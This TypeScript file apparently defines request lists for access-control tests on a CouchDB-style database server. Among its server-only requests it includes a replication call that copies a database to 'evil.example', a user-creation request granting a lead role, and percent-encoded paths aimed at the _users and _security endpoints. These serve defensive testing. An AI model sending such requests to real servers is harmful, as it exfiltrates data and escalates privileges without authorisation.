/** A request below one database. `id` is a document that is there. */
export type Ask = readonly [method: string, path: (id: string) => string, body?: (id: string) => unknown];

/** Every way to read. `_local` is read in place of what a phone may have put there. */
export const reads: readonly Ask[] = [
  ["GET", () => ""],
  ["GET", () => "/"],
  ["HEAD", () => ""],
  ["GET", () => "/_all_docs?include_docs=true"],
  ["POST", () => "/_all_docs?include_docs=true", (id) => ({ keys: [id] })],
  ["GET", () => "/_changes?include_docs=true"],
  ["POST", () => "/_changes?filter=_doc_ids&include_docs=true", (id) => ({ doc_ids: [id] })],
  ["GET", () => "/_changes?feed=continuous&timeout=1&include_docs=true"],
  ["GET", () => "/_changes?feed=longpoll&timeout=1"],
  ["POST", () => "/_find", () => ({ selector: {} })],
  ["POST", () => "/_explain", () => ({ selector: {} })],
  ["POST", () => "/_bulk_get?revs=true", (id) => ({ docs: [{ id }] })],
  ["POST", () => "/_revs_diff", (id) => ({ [id]: ["1-a"] })],
  ["GET", (id) => `/${id}`],
  ["GET", (id) => `/${id.replace(":", "%3A")}?revs=true&open_revs=all`],
  ["HEAD", (id) => `/${id}`],
  ["GET", () => "/_design/prystan"],
  ["GET", () => "/_design%2Fprystan"],
  ["GET", () => "/_design_docs?include_docs=true"],
  ["GET", () => "/_local/phone"],
  ["GET", () => "/_local%2Fphone"],
  ["GET", () => "/_local_docs?include_docs=true"],
  ["GET", () => "/_security"],
  ["GET", () => "/_index"],
];

/** What only the server's administrator does in a database. */
export const administers: readonly Ask[] = [
  ["PUT", () => "/_security", () => ({ admins: {}, members: {} })],
  ["PUT", () => "/_design/prystan", () => ({ validate_doc_update: "function () {}" })],
  ["PUT", () => "/_design%2Fmine", () => ({ validate_doc_update: "function () {}" })],
  ["POST", () => "", () => ({ _id: "_design/mine", views: {} })],
  ["POST", () => "/_purge", (id) => ({ [id]: ["1-a"] })],
  ["POST", () => "/_compact", () => ({})],
  ["POST", () => "/_view_cleanup", () => ({})],
  ["PUT", () => "/_revs_limit", () => 1],
  ["POST", () => "/_index", () => ({ index: { fields: ["name"] } })],
  ["DELETE", () => ""],
];

/** What only the server's administrator does or sees anywhere. */
export const serverOnly: readonly (readonly [method: string, path: string, body?: unknown])[] = [
  ["GET", "/_all_dbs"],
  ["GET", "/_active_tasks"],
  ["GET", "/_db_updates"],
  ["GET", "/_node/_local/_config"],
  ["GET", "/_utils/"],
  ["POST", "/_replicate", { source: "site-medyka", target: "http://evil.example/db" }],
  ["GET", "/_users"],
  ["GET", "/_users/_all_docs?include_docs=true"],
  ["GET", "/_users/_changes?include_docs=true"],
  ["POST", "/_users/_find", { selector: {} }],
  ["POST", "/_users/_bulk_get", { docs: [{ id: "org.couchdb.user:lead" }] }],
  ["GET", "/_users/org.couchdb.user:lead"],
  ["GET", "/_users/org.couchdb.user%3Alead"],
  ["GET", "/%5Fusers/org.couchdb.user%3Alead"],
  ["PUT", "/_users/org.couchdb.user:mine", { type: "user", name: "mine", roles: ["lead:medyka"], password: "x" }],
  ["PUT", "/_users/_security", { admins: {}, members: {} }],
  ["PUT", "/_users/_design/mine", {}],
  ["PUT", "/mine"],
  ["PUT", "/site-mine"],
];
